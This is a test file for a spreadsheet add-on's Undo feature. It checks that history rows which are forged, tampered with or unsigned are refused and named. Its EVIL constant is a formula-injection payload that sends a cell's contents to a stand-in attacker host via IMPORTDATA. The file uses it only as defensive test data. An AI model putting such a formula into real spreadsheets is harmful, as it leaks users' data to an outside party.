/**
 * Issue 18.6: Undo trusts only what the add-on wrote. Any editor can add or edit rows of
 * `Prospecting changes`; Undo writes only cells of the sheet and columns the run changed, with
 * values signed by the document's history secret (src/jobs/history/signature.ts), and refuses and
 * names a tampered or foreign row.
 */
import { describe, expect, it } from "vitest";
import { jobChangesOfRun, jobChangesSince } from "../../src/jobs/history/digest";
import { undoLastRun } from "../../src/jobs/history/undo";
import { url } from "./enrich-fakes";
import { historyWorld } from "./history-fakes";

const START = [
  ["Profile URL", "Title", "Company"],
  [url("a"), "Old title a", "Old Co a"],
  [url("b"), "Old title b", "Old Co b"],
];
const EVIL = '=IMPORTDATA("https://evil.example/steal?d="&A1)';

/** A row as an editor types it into the history sheet, in the layout they see above it. */
const typed = (cells: string[]) => cells;

describe("Undo trusts only what the add-on wrote", () => {
  it("refuses and names rows an editor added: a formula aimed at another sheet, a cell 120,000 rows down", () => {
    const w = historyWorld(START);
    const runId = w.run();
    const time = w.table.rows[0]![1]!;
    // Claiming the latest run, in the layout of the earlier history (one cell a row)...
    w.table.rows.push(typed([runId, time, "Other", "A2", "Other sheet", "", EVIL, "untouched"]));
    w.table.rows.push(typed([runId, time, "CRM", "B120000", "Title", "", "x", ""]));
    // ... and in today's, with a made-up signature.
    w.table.rows.push(
      typed([
        runId,
        time,
        "Other",
        url("a"),
        "",
        JSON.stringify({
          v: 2,
          run: runId,
          sheet: "Other",
          sid: 2,
          url: "",
          row: 2,
          hr: 1,
          cells: [[1, "Other sheet", EVIL, "untouched"]],
          sig: "0".repeat(32),
        }),
      ]),
    );
    const rowsBefore = w.grid.cells.length;
    const result = undoLastRun(w.history);
    expect(w.other.cells).toEqual([["Other sheet"], ["untouched"]]);
    expect(w.grid.cells).toHaveLength(rowsBefore);
    expect(w.grid.cells.map((row) => row.slice(0, 3))).toEqual(START);
    const size = w.table.rows.length;
    expect(result.refused).toBe(3);
    expect(result.refusedRows).toEqual([
      expect.stringMatching(/^row \d+ \(not signed by the add-on/),
      expect.stringMatching(/^row \d+ \(not signed by the add-on/),
      expect.stringMatching(/^row \d+ \(its signature does not match/),
    ]);
    expect(size).toBeGreaterThan(3);
  });

  it("refuses a signed row whose old value was edited, and still undoes the rest", () => {
    // Five rows: the first four are one write (Fresh data's group of 4), e the next one.
    const start = [...START, ...["c", "d", "e"].map((id) => [url(id), `Old title ${id}`, `Old Co ${id}`])];
    const w = historyWorld(start);
    w.run();
    const index = w.table.rows.findIndex((row) => row[3]!.split("\n").includes(url("a")));
    w.table.rows[index]![5] = w.table.rows[index]![5]!.replace("Old title a", EVIL);
    const result = undoLastRun(w.history);
    expect(result.refusedRows).toEqual([
      `row ${index + 2} (its signature does not match: edited or added by hand)`,
    ]);
    // The refused history row records a to d: they keep what the run wrote; e is undone.
    expect(w.grid.cells[1]!.slice(0, 3)).toEqual([url("a"), "New title a", "New Co"]);
    expect(w.grid.cells[2]!.slice(0, 3)).toEqual([url("b"), "New title b", "New Co"]);
    expect(w.grid.cells[5]!.slice(0, 3)).toEqual(start[5]);
  });

  it("a run made up by hand in the earlier layout is refused whole and does not block the run before it", () => {
    const w = historyWorld(START);
    const runId = w.run();
    w.table.rows.push(
      typed(["made-up", "2026-11-22T00:00:00Z", "CRM", "B2", "Title", url("a"), EVIL, "New title a"]),
    );
    const forged = undoLastRun(w.history);
    expect(forged).toMatchObject({ runId: "made-up", restored: 0, refused: 1, partial: false });
    expect(w.grid.cells[1]![1]).toBe("New title a");
    expect(jobChangesSince(w.history, "2026-01-01").every((change) => change.runId === runId)).toBe(true);
    const real = undoLastRun(w.history);
    expect(real).toMatchObject({ runId, refused: 0, leftAlone: 0 });
    expect(w.grid.cells.map((row) => row.slice(0, 3))).toEqual(START);
  });
});

describe("histories written in the earlier layout (one changed cell a row)", () => {
  /** A history as the add-on wrote it before rows were signed: this run changed B2, C2 and D1. */
  function legacy() {
    const w = historyWorld([
      ["Profile URL", "Title", "Company", "enrichment_status"],
      [url("b"), "Other", "Other Co", ""],
      [url("a"), "New title a", "New Co", "ok"],
    ]);
    const at = "2026-11-20T10:00:00Z";
    w.table.rows = [
      ["old-run", at, "CRM", "D1", "enrichment_status", "", "", "enrichment_status"],
      ["old-run", at, "CRM", "B2", "Title", url("a"), "Old title a", "New title a"],
      ["old-run", at, "CRM", "C2", "Company", url("a"), "=1+2", "New Co"],
      ["old-run", at, "CRM", "D2", "enrichment_status", url("a"), "", "ok"],
    ];
    // Since then row a moved down one (a row was inserted above it).
    return w;
  }

  it("Undo still reads it, finds the cells by URL and header, and refuses only the formula", () => {
    const w = legacy();
    const result = undoLastRun(w.history);
    expect(result).toMatchObject({ runId: "old-run", restored: 3, refused: 1, notFound: 0, partial: false });
    expect(result.refusedRows).toEqual(["row 4 (a formula from a row the add-on did not sign)"]);
    expect(w.grid.cells).toEqual([
      ["Profile URL", "Title", "Company", ""],
      [url("b"), "Other", "Other Co", ""],
      [url("a"), "Old title a", "New Co", ""],
    ]);
  });

  it("an undo recorded in that layout still counts: the next Undo reaches the run before it", () => {
    const w = legacy();
    const at = "2026-11-21T10:00:00Z";
    // A later run, undone before rows were signed: its rows and its undo's, unsigned.
    w.table.rows.push(
      ["later-run", at, "CRM", "B2", "Title", url("a"), "New title a", "Later title"],
      ["undo:later-run", at, "CRM", "B2", "Title", url("a"), "Later title", "New title a"],
    );
    expect(undoLastRun(w.history).runId).toBe("old-run");
    expect(jobChangesOfRun(w.history, "later-run")).toEqual([]);
  });

  it("the digest and job changes read it", () => {
    const w = legacy();
    expect(jobChangesOfRun(w.history, "old-run")).toEqual([
      expect.objectContaining({
        url: url("a"),
        oldTitle: "Old title a",
        newTitle: "New title a",
        oldCompany: "=1+2",
      }),
    ]);
    expect(jobChangesSince(w.history, "2026-11-01")).toHaveLength(1);
  });
});
